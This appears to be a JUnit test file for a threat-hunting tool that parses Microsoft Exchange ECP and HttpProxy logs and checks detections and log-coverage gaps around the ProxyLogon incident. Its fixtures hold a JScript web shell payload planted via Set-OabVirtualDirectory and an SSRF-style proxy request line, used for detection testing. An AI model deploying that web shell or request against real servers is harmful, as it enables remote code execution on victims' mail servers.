package dwell.exchange.pack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.FormatId;
import dwell.format.Collected;
import dwell.format.exchange.EcpLog;
import dwell.format.exchange.HttpProxyLog;
import dwell.formats.Formats;
import dwell.hunt.Detector;
import dwell.hunt.Finding;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The code checks on events as dwell's readers produce them from log text. */
class ReaderToCheckTest {
    private static List<Finding> run(Detector check, FormatId format, String item, String text) throws IOException {
        Collected c = Collected.read(Formats.of(format), item, text);
        assertEquals(List.of(), c.unreadable);
        PackEvents.Sink sink = new PackEvents.Sink();
        c.events.forEach(e -> check.onEvent(e, sink));
        check.finish(sink);
        return sink.findings;
    }

    @Test
    void ecpServerLogOfTheProxyLogonWebShellStep() throws IOException {
        // the public incident's lines (EcpVirtualDirectoryCheckTest) in the ECP Server log's own CSV layout
        String log = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n"
                + "#Date: 2021-03-03T06:49:51.389Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
                + "2021-03-03T06:49:51.389Z,EXCH01,,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:EX=\r\n"
                + "2021-03-03T06:49:53.772Z,EXCH01,,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" "
                + "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>'"
                + ".Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3';S:EX=;S:IP=130.255.189.21\"\r\n"
                + "2021-03-03T06:49:58.835Z,EXCH01,,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3';"
                + "S:EX=Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on DC01. The object "
                + "'CN=OAB (Default Web Site),CN=HTTP' does not exist.\"\r\n";
        List<Finding> f = run(new EcpVirtualDirectoryCheck(PackEvents.RULES), EcpLog.ID,
                "EXCH01/Logging/ECP/Server/ECPServer20210303-1.LOG", log);
        assertEquals(1, f.size());
        assertEquals("2021-03-03T06:49:53.772Z", f.get(0).time().toString());
        assertEquals(7, f.get(0).evidence().line());
        assertEquals("EXCH01", f.get(0).host());
        assertTrue(f.get(0).details().get("command").toString().endsWith(".Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"),
                f.get(0).details().toString());
        assertEquals("130.255.189.21", f.get(0).indicators().get(0).value());
    }

    @Test
    void httpProxyCoverageFromTheReader() throws IOException {
        String log = "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
                + "#Fields: DateTime,RequestId,Protocol,UrlHost,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method\r\n"
                + "2020-12-30T23:59:59.000Z,1,Owa,mail.contoso.com,/owa/,Smtp~a@contoso.com,Mozilla/5.0,10.0.0.5,EXCH01,200,GET\r\n"
                + "2021-03-03T06:49:42.162Z,2,Owa,mail.contoso.com,/owa/auth/x.js,\"ServerInfo~a]@exch01:444/mapi/emsmdb/?#\",python-requests/2.25.1,198.51.100.23,EXCH01,200,POST\r\n";
        List<Finding> f = run(new LogCoverageCheck(PackEvents.RULES), HttpProxyLog.ID,
                "EXCH01/Logging/HttpProxy/Owa/HttpProxy_2020123023-1.LOG", log);
        assertEquals(1, f.size());
        assertEquals("HttpProxy/Owa", f.get(0).details().get("series"));
        // two events, before and after 2021-01-06, and no event for the two months between: a gap contains the start
        assertEquals(false, f.get(0).details().get("covers_exposure_start"));
        assertEquals("gap-at-start", f.get(0).details().get("start_coverage"));
        assertEquals("2020-12-31", f.get(0).details().get("gap_from"));
        assertEquals("2021-03-02", f.get(0).details().get("gap_to"));
        assertEquals("EXCH01", f.get(0).host());
        assertEquals(4, f.get(0).evidence().line());
    }
}
